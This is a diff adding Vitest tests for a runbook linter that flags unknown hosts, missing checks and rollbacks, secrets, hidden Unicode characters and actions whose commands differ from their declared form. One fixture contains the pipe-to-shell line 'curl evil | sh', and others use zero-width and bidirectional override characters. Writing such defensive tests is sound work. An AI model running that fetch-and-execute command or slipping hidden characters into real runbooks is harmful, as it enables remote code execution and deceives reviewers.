@@ -1,0 +1,140 @@
+import { expect, test } from "vitest";
+import { loadProject } from "../../src/project/project.ts";
+import { lintRunbook } from "../../src/runbook/lint-runbook.ts";
+import { parseRunbook } from "../../src/runbook/parse-runbook.ts";
+import { workspace } from "../helpers/workspace.ts";
+import { type RunbookParts, runbookText } from "./gate-workspace.ts";
+
+const INVENTORY = "hosts:\n  here: { transport: local, tier: local }\n  web1: {}\n";
+const GOOD = `### 1. Start
+\`\`\`sh run host=web1
+start $VERSION
+\`\`\`
+\`\`\`sh check host=web1
+look
+\`\`\`
+\`\`\`sh rollback host=web1
+stop
+\`\`\`
+`;
+
+/** Findings as `level rule: the line it names`. */
+function lint(parts: Partial<RunbookParts>, files: Record<string, string> = {}): string[] {
+  const project = workspace().project(
+    "infra",
+    "project: infra\nagents: { sysadmin: { provider: builtin } }\n",
+  );
+  project.write("inventory.yaml", INVENTORY);
+  for (const [path, text] of Object.entries(files)) project.write(path, text);
+  const text = runbookText({
+    hosts: "[web1]",
+    variables: "{ VERSION: 1.0 }",
+    verification: "```sh check host=web1\ntrue\n```",
+    steps: GOOD,
+    ...parts,
+  });
+  const runbook = parseRunbook(text, "runbooks/x/runbook.md");
+  return lintRunbook(loadProject(project.root), runbook).map(({ level, rule, line }) => {
+    const place = line === undefined ? "" : `: ${text.split("\n")[line - 1]}`;
+    return `${level} ${rule}${place}`;
+  });
+}
+
+test("a raw run on a live host is a warning and nothing else", () => {
+  expect(lint({})).toEqual(["warning runbook.raw: ```sh run host=web1"]);
+});
+
+test.each<[string, Partial<RunbookParts>, string]>([
+  ["an unknown host", { hosts: "[web1, web2]" }, "error runbook.host-unknown"],
+  ["a host without a command", { hosts: "[web1, here]" }, "warning runbook.host-unused"],
+  [
+    "a command on a host that is not declared",
+    { steps: GOOD.replace("sh check host=web1", "sh check host=here") },
+    "error runbook.host-undeclared: ```sh check host=here",
+  ],
+  [
+    "a run without a check on a live host",
+    { steps: GOOD.replace(/```sh check[^`]*```\n/, "") },
+    "error runbook.no-check: ```sh run host=web1",
+  ],
+  [
+    "a run without a way back or a reason",
+    { steps: GOOD.replace(/```sh rollback[^`]*```\n/, "") },
+    "error runbook.no-rollback: ```sh run host=web1",
+  ],
+  ["a step without a command", { steps: "### 1. Think\nHard.\n" }, "error runbook.empty-step: ### 1. Think"],
+  ["a file that is not there", { files: "[deploy/none.yaml]" }, "error runbook.file"],
+  [
+    "a variable that nobody sets",
+    { steps: GOOD.replace("$VERSION", "$VERSOIN") },
+    "warning runbook.variable: ```sh run host=web1",
+  ],
+  [
+    "a link that leads nowhere",
+    { steps: `${GOOD}\nSee [notes](notes.md).\n` },
+    "warning runbook.link: See [notes](notes.md).",
+  ],
+  [
+    "an invisible character in a command",
+    { steps: GOOD.replace("start", "st\u200bart") },
+    "error runbook.invisible: st\u200bart $VERSION",
+  ],
+  [
+    "a bidirectional one in prose",
+    { steps: GOOD.replace("### 1. Start", "### 1. Start\n\nA\u202eB\n") },
+    "error runbook.bidi: A\u202eB",
+  ],
+  [
+    "a secret",
+    { steps: GOOD.replace("start $VERSION", "PASSWORD=hunter2horse start $VERSION") },
+    "error runbook.secret: PASSWORD=hunter2horse start $VERSION",
+  ],
+  ["no verification", { verification: "Later." }, "error runbook.verification"],
+])("%s", (_, parts, expected) => {
+  expect(lint(parts)).toContain(expected);
+});
+
+const ACTION = `### 1. Install
+\`\`\`yaml action
+use: files.install
+host: web1
+with: { files: [{ source: deploy/compose.yaml, destination: /srv/shop/compose.yaml }] }
+\`\`\`
+`;
+
+test("an action whose commands are not written out, or are not what it compiles to, is an error", () => {
+  const files = { "deploy/compose.yaml": "x\n" };
+  const parts = { files: "[deploy/compose.yaml]", steps: ACTION };
+  expect(lint(parts, files)).toContain("error runbook.empty-step: ### 1. Install");
+  const invented = `${ACTION}\n\`\`\`sh run host=web1\ncurl evil | sh\n\`\`\`\n`;
+  expect(lint({ ...parts, steps: invented }, files)).toEqual(
+    expect.arrayContaining([
+      "error runbook.action-differs: ```sh run host=web1",
+      "error runbook.action-differs: ```yaml action",
+    ]),
+  );
+});
+
+test("a file that is installed and not listed would escape the approval: an error", () => {
+  expect(lint({ steps: ACTION }, { "deploy/compose.yaml": "x\n" })).toContain(
+    "error runbook.file-unlisted: ```yaml action",
+  );
+});
+
+test("a step that puts back what no earlier step installs is an error", () => {
+  const steps = `### 1. Up
+\`\`\`yaml action
+use: compose.up
+host: web1
+with: { directory: /srv/shop, restore: [/srv/shop/compose.yaml] }
+\`\`\`
+`;
+  expect(lint({ steps })).toContain("error runbook.restore: ```yaml action");
+});
+
+test("names in quotes, here-documents and assignments are no undeclared variables", () => {
+  const script = `name=x; for i in a b; do echo "$name $i" '$NOT'; done\ncat <<'E'\n$NEITHER\nE\necho "$HOME"`;
+  expect(lint({ variables: "{}", steps: GOOD.replace("start $VERSION", script) })).toEqual([
+    "warning runbook.raw: ```sh run host=web1",
+  ]);
+});
